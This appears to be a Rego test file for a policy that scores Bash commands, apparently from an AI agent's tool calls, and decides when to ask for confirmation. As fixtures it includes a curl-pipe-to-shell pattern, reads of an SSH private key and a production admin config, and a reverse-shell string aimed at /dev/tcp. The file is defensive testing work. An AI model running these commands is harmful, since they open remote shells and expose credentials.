package hookward.rules.learned_test

import data.hookward.rules.learned

score_input(s, cfg) := {"event": {"tool": {"name": "Bash"}}, "config": cfg, "facts": {"command_score": {"score": s, "features": ["curl", "| sh"]}}}

test_score_at_default_threshold_asks if {
	some d in learned.decision with input as score_input(0.95, {})
	d.id == "shell/learned-risk"
	d.decision == "ask"
	contains(d.reason, "0.95")
	contains(d.reason, "| sh")
}

test_score_below_threshold_no_opinion if {
	count(learned.decision) == 0 with input as score_input(0.94, {})
}

test_configured_threshold_is_used if {
	count(learned.decision) == 1 with input as score_input(0.75, {"scan": {"command_ask": 0.7}})
	count(learned.decision) == 0 with input as score_input(0.75, {"scan": {"command_ask": 0.8}})
}

test_no_score_no_opinion if {
	count(learned.decision) == 0 with input as {"facts": {}}
}

test_identity_use_is_judged if {
	inp := object.union(score_input(0.99, {}), {"facts": {"command_score": {"score": 0.99, "features": []}, "home": "/home/u", "project_dir": "/home/u/p", "paths": [{"path": "/home/u/.ssh/id_rsa", "access": "read", "via": "shell", "how": "ssh -i", "classes": ["credential"], "evidence": "ssh -i ~/.ssh/id_rsa h"}]}})
	count(learned.decision) == 0 with input as inp
}

test_public_part_is_judged if {
	inp := object.union(score_input(0.99, {}), {"facts": {"command_score": {"score": 0.99, "features": []}, "paths": [{"path": "/home/u/.ssh/id_rsa", "access": "read", "via": "shell", "how": "ssh-keygen shows-public", "classes": ["credential"], "evidence": "ssh-keygen -y -f ~/.ssh/id_rsa"}]}})
	count(learned.decision) == 0 with input as inp
}

test_other_reads_do_not_silence_it if {
	inp := object.union(score_input(0.99, {}), {"facts": {"command_score": {"score": 0.99, "features": []}, "paths": [{"path": "/home/u/kafka/prod-admin.properties", "access": "read", "via": "shell", "how": "cat", "classes": ["outside_project"], "evidence": "cat ~/kafka/prod-admin.properties"}]}})
	count(learned.decision) == 1 with input as inp
}

test_printed_text_is_judged if {
	inp := object.union(score_input(0.99, {}), {"facts": {"command_score": {"score": 0.99, "features": []}, "paths": [], "shell": {"commands": [{"program": "echo", "argv": ["echo", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"]}]}}})
	count(learned.decision) == 0 with input as inp
}

test_printed_text_written_is_not_judged if {
	inp := object.union(score_input(0.99, {}), {"facts": {"command_score": {"score": 0.99, "features": []}, "paths": [{"path": "/home/u/x.sh", "access": "write", "via": "shell", "how": "echo", "classes": []}], "shell": {"commands": [{"program": "echo", "argv": ["echo", "x"]}]}}})
	count(learned.decision) == 1 with input as inp
}
